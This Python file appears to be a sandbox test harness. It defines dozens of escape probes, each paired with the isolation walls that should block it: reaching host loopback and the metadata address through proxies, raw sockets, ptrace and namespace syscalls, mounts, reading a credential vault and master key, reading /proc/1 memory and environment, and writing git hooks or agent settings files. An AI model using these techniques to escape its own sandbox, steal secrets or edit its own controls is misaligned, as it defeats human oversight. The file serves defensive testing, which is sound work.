"""Attempts to get out of an isolated run. Each is a function that returns whether it succeeded, and names the walls that
are against it: with all of them left out it succeeds. `escape.py list` prints them; `escape.py run FACTS NAME...` makes them."""
import ctypes, errno, fcntl, json, os, socket, ssl, struct, subprocess, sys

FACTS, ATTEMPTS = {}, {}
libc = ctypes.CDLL(None, use_errno=True)

def attempt(walls, flags=""):
    def note(function):
        name = function.__name__.replace("_", " ")
        ATTEMPTS[name] = (function, walls.split(), flags.split())
        return function
    return note

def call(number, *arguments):
    "Whether a system call succeeds."
    ctypes.set_errno(0)
    given = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in arguments]
    return libc.syscall(ctypes.c_long(number), *given) >= 0

def greeted(place, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(5)
        s.connect(place)
        return s.recv(4) == b"host"

def readable(path):
    with open(path, "rb") as file:
        return len(file.read(16)) > 0

def new():
    return "new-" + os.urandom(8).hex()

def written(path):
    with open(path, "a") as file:
        file.write("x")
    return True

# The network.
@attempt("Network")
def the_hosts_loopback(): return greeted(("127.0.0.1", FACTS["port"]))
@attempt("Network")
def the_hosts_loopback_over_ipv6(): return greeted(("::1", FACTS["port6"]), socket.AF_INET6)
@attempt("Network")
def the_hosts_loopback_by_another_address(): return greeted(("127.9.9.9", FACTS["port"]))
@attempt("Network")
def the_hosts_loopback_by_a_mapped_address(): return greeted(("::ffff:127.0.0.1", FACTS["port"]), socket.AF_INET6)
@attempt("Network")
def the_hosts_loopback_by_the_unspecified_address(): return greeted(("0.0.0.0", FACTS["port"]))
@attempt("Network OwnAddresses")
def an_address_of_the_host(): return greeted((FACTS["own"], FACTS["port"]))
@attempt("Network OwnAddresses")
def an_address_of_the_host_over_ipv6(): return greeted((FACTS["own6"], FACTS["port6"]), socket.AF_INET6)
@attempt("OwnAddresses")
def an_address_of_the_host_captured(): return greeted((FACTS["own"], FACTS["port"]))
@attempt("Network")
def the_metadata_address(): return greeted(("169.254.169.254", FACTS["port"]))
@attempt("Network")
def a_datagram_to_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.connect(("127.0.0.1", FACTS["udp"])); s.send(b"x")
        return s.recv(4) == b"host"
@attempt("Network")
def a_datagram_to_an_address_of_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.connect((FACTS["own"], FACTS["udp"])); s.send(b"x")
        return s.recv(4) == b"host"
@attempt("Network")
def a_question_to_another_resolver():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.connect((FACTS["own"], 53)); s.send(b"secret")
        return s.recv(4) == b"host"
LISTEN = "0A" # of what is captured the other end is here, at that port, too
@attempt("Network")
def the_list_of_the_hosts_listeners(): return any(line.split()[1].endswith(":%04X" % FACTS["port"]) and line.split()[3] == LISTEN for line in open("/proc/net/tcp") if ":" in line)
@attempt("Network")
def the_hosts_addresses(): return FACTS["own"] in open("/proc/net/fib_trie").read()
@attempt("Network Landlock")
def an_abstract_socket_of_the_host(): return greeted("\0" + FACTS["abstract"], socket.AF_UNIX)
@attempt("Network Landlock")
def an_abstract_datagram_to_the_host():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s: s.connect("\0" + FACTS["abstract_datagrams"]); return True

# The explicit proxy, and what is captured.
def through_proxy(host):
    proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)[1]
    with socket.create_connection(("127.0.0.1", int(proxy)), timeout=10) as s:
        s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: x\r\n\r\n" % (host.encode(), FACTS["port"]))
        return b" 200 " in s.recv(64)
@attempt("OwnAddresses")
def the_hosts_loopback_through_the_proxy(): return through_proxy("127.0.0.1")
@attempt("OwnAddresses")
def the_hosts_loopback_by_name_through_the_proxy(): return through_proxy("localhost")
@attempt("OwnAddresses")
def the_hosts_loopback_as_a_number_through_the_proxy(): return through_proxy("2130706433")
@attempt("OwnAddresses")
def an_address_of_the_host_through_the_proxy(): return through_proxy(FACTS["own"])
def hello(place, name):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(place, timeout=10) as s, context.wrap_socket(s, server_hostname=name): return True
@attempt("Policy NamePolicy", "--policy deny")
def a_denied_host_by_its_name(): return hello(tuple(FACTS["other"]), FACTS["other"][0])
@attempt("NamePolicy", "--policy deny")
def a_denied_name_as_a_message():
    return len(socket.getaddrinfo("secret.evil.test", 443)) > 0
@attempt("NamesAgree")
def another_name_in_the_hello(): return hello(tuple(FACTS["other"]), "gitlab.test")
@attempt("HostAgrees")
def another_name_in_the_head():
    with socket.create_connection(("grpc.test", FACTS["http"]), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n")
        return b" 421 " not in s.recv(64)

# Kinds of sockets.
def opens(*kind): socket.socket(*kind).close(); return True
@attempt("Filter")
def a_socket_to_the_hypervisor(): return opens(40, socket.SOCK_STREAM, 0)
@attempt("Filter Rights")
def a_raw_socket(): return opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
@attempt("Filter Rights")
def a_raw_socket_over_ipv6(): return opens(socket.AF_INET6, socket.SOCK_RAW, 58)
@attempt("Filter Rights")
def a_packet_socket(): return opens(17, socket.SOCK_RAW, 768)
@attempt("Rights")
def a_low_port(): s = socket.socket(); s.bind(("127.0.0.1", 81)); return True

# System calls.
@attempt("Filter")
def tracing(): 
    pid = os.fork()
    if pid == 0: os._exit(0 if call(101, 0, 0, 0, 0) else 1)
    return os.waitpid(pid, 0)[1] == 0
@attempt("Filter")
def memory_of_a_process():
    buffer = ctypes.create_string_buffer(b"secret"); out = ctypes.create_string_buffer(8)
    vector = lambda b: struct.pack("QQ", ctypes.addressof(b), 6)
    return call(310, os.getpid(), vector(out), 1, vector(buffer), 1, 0)
@attempt("Filter")
def io_uring(): return call(425, 8, ctypes.create_string_buffer(120))
@attempt("Filter")
def a_keyring(): return call(250, 0, -3, 1)
@attempt("Filter")
def a_key(): return call(248, b"user\0", b"name\0", b"secret", 6, -2)
@attempt("Filter")
def faults_in_user_space(): return call(323, 1 | 0x80000)
@attempt("Filter")
def a_namespace_of_users():
    pid = os.fork()
    if pid == 0: os._exit(0 if call(272, 0x10000000) else 1)
    return os.waitpid(pid, 0)[1] == 0
@attempt("Filter")
def a_namespace_of_users_by_clone3():
    arguments = struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
    ctypes.set_errno(0)
    pid = libc.syscall(435, arguments, 64)
    if pid == 0: os._exit(0)
    return pid > 0 and os.waitpid(pid, 0)[1] == 0
@attempt("Filter")
def rights_in_a_namespace_of_its_own(): return subprocess.run(["unshare", "-Ur", "true"], stderr=subprocess.DEVNULL).returncode == 0
@attempt("Filter")
def a_handle_of_a_file(): return call(303, -100, b"/\0", struct.pack("Ii", 128, 0) + bytes(128), ctypes.create_string_buffer(4), 0)
@attempt("Filter")
def a_descriptor_of_another_process():
    pidfd = os.pidfd_open(os.getpid())
    return call(438, pidfd, 0, 0)
@attempt("Filter")
def a_tree_of_mounts(): return call(428, -100, b"/\0", 0)
@attempt("Filter Rights")
def a_file_system(): return call(430, b"tmpfs\0", 0)
@attempt("Filter Rights Landlock")
def a_mount(): return call(165, b"none\0", b"/mnt\0", b"tmpfs\0", 0, 0)
@attempt("Filter Rights Landlock")
def what_hides_the_vault_taken_away(): return call(166, FACTS["home"].encode() + b"\0", 2) and readable(FACTS["home"] + "/vault.db")

# Files.
@attempt("Hidden")
def the_vault(): return readable(FACTS["home"] + "/vault.db")
@attempt("Hidden")
def the_vault_by_its_own_root(): return readable("/proc/self/root" + FACTS["home"] + "/vault.db")
@attempt("Hidden")
def the_vault_by_a_link():
    name = new(); os.symlink(FACTS["home"], name); return readable(name + "/vault.db")
@attempt("Hidden")
def the_vault_by_a_hard_link(): name = new(); os.link(FACTS["home"] + "/vault.db", name); return readable(name)
@attempt("Hidden")
def the_vault_moved_away(): os.rename(FACTS["home"] + "/vault.db", "moved"); os.rename("moved", FACTS["home"] + "/vault.db"); return True
@attempt("Hidden")
def the_key(): return readable(FACTS["home"] + "/master.key")
@attempt("Hidden")
def the_key_named_by_a_variable(): return readable(FACTS["key_file"])
@attempt("Hidden")
def the_lock_of_the_vault():
    with open(FACTS["home"] + "/vault.db") as file: fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB); return True
@attempt("Hidden")
def authsome_itself():
    environment = {"HOME": os.environ["HOME"], "AUTHSOME_HOME": FACTS["home"], "PATH": os.environ["PATH"]}
    asked = subprocess.run([FACTS["authsome"], "get", "gitlab", "--show-secret"], env=environment, capture_output=True)
    return asked.returncode == 0
@attempt("Descriptors")
def a_directory_that_was_open():
    return any(readable("/proc/self/fd/%s/vault.db" % n) for n in os.listdir("/proc/self/fd") if os.path.exists("/proc/self/fd/%s/vault.db" % n))
def connects(path, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as s: s.connect(path); return True
@attempt("Hidden")
def the_agent_for_ssh(): return connects(os.environ["SSH_AUTH_SOCK"])
@attempt("Hidden")
def the_bus_of_the_session(): return connects(os.environ["XDG_RUNTIME_DIR"] + "/bus")
@attempt("Hidden")
def the_engine_of_containers(): return connects(os.environ["DOCKER_HOST"][len("unix://"):])
@attempt("Hidden")
def a_socket_that_somebody_listens_on(): return connects(FACTS["socket"])
@attempt("Hidden")
def a_socket_that_takes_datagrams(): return connects(FACTS["datagrams"], socket.SOCK_DGRAM)
@attempt("Hidden")
def a_descriptor_handed_to_another_process():
    with socket.socket(socket.AF_UNIX) as s: s.connect(FACTS["socket"]); socket.send_fds(s, [b"x"], [0]); return True

# Processes.
@attempt("Processes")
def another_process_is_seen(): return os.path.exists("/proc/%d/cmdline" % FACTS["pid"]) and FACTS["mark"] in open("/proc/%d/cmdline" % FACTS["pid"]).read()
@attempt("Processes Landlock")
def a_signal_to_another_process(): return FACTS["mark"] in open("/proc/%d/cmdline" % FACTS["pid"]).read() and os.kill(FACTS["pid"], 0) is None
@attempt("Processes Landlock")
def a_signal_to_all_processes():
    seen = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) == FACTS["pid"]]
    return bool(seen) and os.kill(seen[0], 0) is None
@attempt("Dumpable")
def what_the_first_process_was_given(): return readable("/proc/1/environ")
@attempt("Dumpable")
def the_memory_of_the_first_process():
    with open("/proc/1/maps") as maps: start = int(maps.readline().split("-")[0], 16)
    with open("/proc/1/mem", "rb") as memory: memory.seek(start); return len(memory.read(8)) == 8
@attempt("Dumpable")
def the_descriptors_of_the_first_process(): return len(os.listdir("/proc/1/fd")) > 0
@attempt("Ipc")
def shared_memory_of_the_host(): return any(line.split()[1] == str(FACTS["shared"]) for line in list(open("/proc/sysvipc/shm"))[1:])

# What runs later, outside.
REPO = "--protect-repo"
@attempt("Protected", REPO)
def a_hook(): return written("repo/.git/hooks/post-checkout")
@attempt("Protected", REPO)
def the_configuration_of_git(): return written("repo/.git/config")
@attempt("Protected", REPO)
def git_config_itself(): return subprocess.run(["git", "-C", "repo", "config", "core.hooksPath", "/tmp"], stderr=subprocess.DEVNULL).returncode == 0
@attempt("Protected", REPO)
def another_directory_of_git(): os.rename("repo/.git", "repo/.other"); os.rename("repo/.other", "repo/.git"); return True
@attempt("Protected", REPO)
def another_repository(): os.rename("repo", "other"); os.rename("other", "repo"); return True
@attempt("Protected", REPO)
def another_directory_of_hooks(): os.rename("repo/.git/hooks", "repo/.git/h"); os.rename("repo/.git/h", "repo/.git/hooks"); return True
@attempt("Protected", REPO)
def the_orders_of_an_agent(): return written("repo/.claude/settings.json")
@attempt("Protected", REPO)
def the_orders_of_an_agent_in_a_file(): return written("repo/AGENTS.md")

# Only what is named is written to.
ONLY = "--read-only-root --writable mine"
@attempt("ReadOnly Landlock", ONLY)
def a_new_file(): return written("repo/new")
@attempt("ReadOnly Landlock", ONLY)
def a_file_that_is_there(): return written("repo/theirs/file")
@attempt("ReadOnly Landlock", ONLY)
def a_file_that_is_there_by_a_link(): name = "repo/mine/" + new(); os.symlink("../theirs/file", name); return written(name)
@attempt("ReadOnly Landlock", ONLY)
def a_file_that_is_there_by_a_hard_link(): name = "repo/mine/" + new(); os.link("repo/theirs/file", name); return written(name)
@attempt("ReadOnly Landlock", ONLY)
def a_directory_moved_in(): os.rename("repo/theirs", "repo/mine/theirs"); os.rename("repo/mine/theirs", "repo/theirs"); return True
@attempt("ReadOnly", ONLY)
def the_mode_of_a_file(): os.chmod("repo/theirs/file", 0o640); return True
@attempt("ReadOnly Landlock", ONLY)
def a_file_removed(): os.remove("repo/theirs/spare"); return written("repo/theirs/spare")

def made(name):
    try: return bool(ATTEMPTS[name][0]())
    except (OSError, ValueError, subprocess.SubprocessError): return False

if __name__ == "__main__":
    if sys.argv[1] == "list":
        print(json.dumps([{"name": n, "walls": w, "flags": f} for n, (_, w, f) in ATTEMPTS.items()]))
    else:
        FACTS.update(json.loads(sys.argv[2]))
        os.chdir(FACTS["world"])
        print(json.dumps({name: made(name) for name in sys.argv[3:]}))
